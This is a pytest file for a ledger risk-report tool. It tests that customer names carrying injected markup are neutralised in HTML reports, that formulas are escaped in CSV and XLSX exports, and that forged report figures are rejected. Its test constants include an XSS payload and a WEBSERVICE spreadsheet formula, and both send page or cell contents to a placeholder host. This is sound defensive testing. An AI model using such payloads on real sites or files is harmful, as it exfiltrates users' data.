"""Attacks by what a customer is called, and on what a report shows (docs/threat-model.md)."""

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from support_embedded import SHARED, copy_of_tiny_demo
from support_risk_report import GOOD, contents, report

from hanse_ledger.answer_file import verify_answer_file
from hanse_ledger.consortium import parse_document
from hanse_ledger.errors import LedgerError
from node.bootstrap import CONSORTIUM_FILE
from node.demo import REPORT_FILE
from node.own.customers import Customer
from node.risk.portfolio.position import position_of
from node.risk.portfolio.sheet import to_xlsx
from node.risk.portfolio.tables import rows_of, to_csv
from node.risk.report.files import answer_file_of, as_html

SCRIPT = '"><script>fetch("https://x.example/"+document.body.innerText)</script><img src=x onerror=alert(1)>'
FORMULA = '=WEBSERVICE("https://x.example/?"&A1)'


class Elements(HTMLParser):
    """The elements and attributes that a browser would see."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen |= {tag, *(name for name, _ in attrs)}


def test_customer_called_a_script() -> None:
    named = Customer(number=SCRIPT, name=SCRIPT, subject=GOOD.subject)
    page = as_html(report(GOOD, customers=[named], purpose=SCRIPT))
    assert not {"script", "img", "src", "onerror"} & Elements(page).seen
    assert "default-src 'none'" in page


def test_customer_called_a_formula() -> None:
    made = contents(GOOD)
    rows = rows_of([position_of(made.assessment, made.signals, (FORMULA,))], currency="CNY", exponent=2)
    line = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))[1]
    assert f"'{FORMULA}" in line
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(rows))).active
    assert sheet is not None
    assert {cell.data_type for cell in sheet[2] if cell.value == FORMULA} == {"s"}


def test_figures_in_a_report_are_changed(tmp_path: Path) -> None:
    home = copy_of_tiny_demo(tmp_path)
    consortium = parse_document((home / CONSORTIUM_FILE).read_bytes())
    (document,) = (
        one for one in json.loads((home / REPORT_FILE).read_bytes())["risk"] if one["subject"]["id"] == SHARED
    )
    file = answer_file_of(document)
    assert file is not None
    verified = verify_answer_file(file, consortium)
    assert verified["windows"] == document["answer"]["windows"]
    changes: list[dict[str, object]] = [{"warning_level": 2}, {"subject": "ref:DEMO:OTHER"}, {"windows": []}]
    for change in changes:
        forged = answer_file_of({**document, "proof": {**document["proof"], **change}})
        assert forged is not None
        with pytest.raises(LedgerError):
            verify_answer_file(forged, consortium)
